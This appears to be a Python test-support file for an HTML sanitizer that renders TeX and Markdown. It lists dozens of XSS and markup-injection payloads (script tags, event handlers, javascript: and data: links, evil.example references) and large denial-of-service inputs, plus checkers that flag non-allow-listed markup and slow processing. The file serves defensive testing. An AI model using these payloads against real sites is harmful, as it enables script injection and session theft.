"""Text that tries to become markup or to cost time, and the check that it did not become markup."""

import time
from collections.abc import Callable
from html.parser import HTMLParser

from papers.safehtml import CLASSES, HTML_ATTRIBUTES, HTML_TAGS, MATHML_ATTRIBUTES, MATHML_TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "</annotation></semantics></math><script>alert(1)</script>",
    "$x</annotation></semantics></math><img src=x onerror=alert(1)>$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;script&gt;}$",
    r"$\text{&#x3c;script&#x3e;}$",
    r"$\mbox{</math><script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href{https://evil.example\" onclick=\"alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\class{evil}{x}$",
    r"$\color{red\" onclick=\"alert(1)}{x}$",
    r"$\textcolor{javascript:alert(1)}{x}$",
    r"$\colorbox{red}{x}$",
    r"$\hspace{1em\" onload=\"alert(1)}$",
    r"$\begin{array}{c\" onclick=\"x}a\end{array}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\def\x{\x\x}\x$",
    r"$\newcommand{\a}[1]{#1<b>}\a{<i>}$",
    r"\href{javascript:alert(1)}{x}",
    r"\href{data:text/html,<script>alert(1)</script>}{x}",
    r"\href{https://a.example/\"onmouseover=alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\textbf{<b onclick=alert(1)>x</b>}",
    r"\texttt{</code><script>alert(1)</script>}",
    r"\evil{<script>alert(1)</script>}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](https://a.example "t\\" onclick=\\"alert(1)")',
    "[x](<javascript:alert(1)>)",
    "[a [b](javascript:alert(1)) c](https://a.example)",
    "[<script>alert(1)</script>](https://a.example)",
    "![x](https://evil.example/a.png)",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    'https://a.example/"onmouseover=alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://user:pass@evil.example/",
    "javascript://a.example/%0aalert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><a/>",
    "`<script>`",
    "> <iframe src=//evil.example>",
    "- <style>*{display:none}</style>",
    "1. <base href=//evil.example>",
    "\u202e<script>\u202c",
    "\u2066https://a.example/\u202egpj.exe",
    "\x00<\x00script>",
    "\ud800<script>\udfff",
    "<a href='x'>\u2028alert(1)",
    "$$\\text{<form action=//evil.example><input>}$$",
    "\\[<script>alert(1)</script>\\]",
]

N = 100_000
HUGE = {
    "dollars": "$" * N,
    "spaced dollars": "$ " * (N // 2),
    "escaped dollars": "$" + "\\$" * (N // 2),
    "open braces": "{" * N,
    "brace pairs": "{}" * (N // 2),
    "open macros": "\\textbf{" * (N // 8),
    "switches": "{\\bf " * (N // 5),
    "backslashes": "\\" * N,
    "accents": "\\'{" * (N // 3),
    "formulas": "$x$ " * (N // 4),
    "distinct formulas": " ".join(f"${n}^{{{n}}}$" for n in range(N // 14)),
    "large formulas": ("$" + "x_{1}^2" * 280 + "$ ") * (N // 1962),
    "open formulas": "\\(" * (N // 2),
    "displays": "$$x" * (N // 3),
    "urls": "https://a.example " * (N // 18),
    "url": "https://a.example/" + "(" * N,
    "schemes": "https://" * (N // 8),
    "hosts": "https://" + "a." * (N // 2),
    "stars": "*a " * (N // 3),
    "underscores": "_a" * (N // 2),
    "backticks": "`a``b```c" * (N // 9),
    "brackets": "[" * N,
    "links": "[a](" * (N // 4),
    "images": "![" * (N // 2),
    "quotes": "\"'" * (N // 2),
    "hyphens": "-" * N,
    "hyphenated": "a-" * (N // 2),
    "word": "a" * N,
    "hangul": "가" * N,
    "markup": "<&" * (N // 2),
    "lines": "a\n" * (N // 2),
    "items": "- a\n" * (N // 4),
    "stairs": "".join(" " * n + "- a\n" for n in range(440)),
    "quotations": "> " * (N // 2),
    "marks": "e" + "\u0301" * N,
    "arxiv prefixes": "arXiv:" * (N // 6),
}

_ATTRIBUTES = HTML_ATTRIBUTES | MATHML_ATTRIBUTES
_SCHEMES = ("http://", "https://", "mailto:")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HTML_TAGS | MATHML_TAGS:
            self.faults.append(f"<{tag}>")
        if tag == "a" and "a" in self.open:
            self.faults.append("nested link")
        self.open.append(tag)
        for name, value in attrs:
            known = set((value or "").split()) <= CLASSES.get(tag, set()) if name == "class" else False
            if not known and name not in _ATTRIBUTES.get(tag, set()):
                self.faults.append(f"{tag} {name}={value}")
            if name == "href" and not (value or "").lower().startswith(_SCHEMES):
                self.faults.append(f"href={value}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}")


def faults_of(html: str) -> list[str]:
    """What an HTML parser finds in ``html`` beside allow-listed, properly nested elements."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.faults + [f"<{tag}> left open" for tag in checker.open]


class _Visible(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []
        self.hidden = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.hidden += tag == "annotation"

    def handle_endtag(self, tag: str) -> None:
        self.hidden -= tag == "annotation"

    def handle_data(self, data: str) -> None:
        if not self.hidden:
            self.parts.append(data)


def visible(html: str) -> str:
    """The text a reader sees; the TeX annotations of formulas are not shown."""
    parser = _Visible()
    parser.feed(html)
    parser.close()
    return "".join(parser.parts)


def quickly(function: Callable[[str], object], text: str) -> None:
    """Calls ``function`` with ``text`` and fails if that takes more than a second of processor time."""
    started = time.process_time()
    function(text)
    took = time.process_time() - started
    assert took <= 1, f"{function.__name__} took {took:.2f} s"
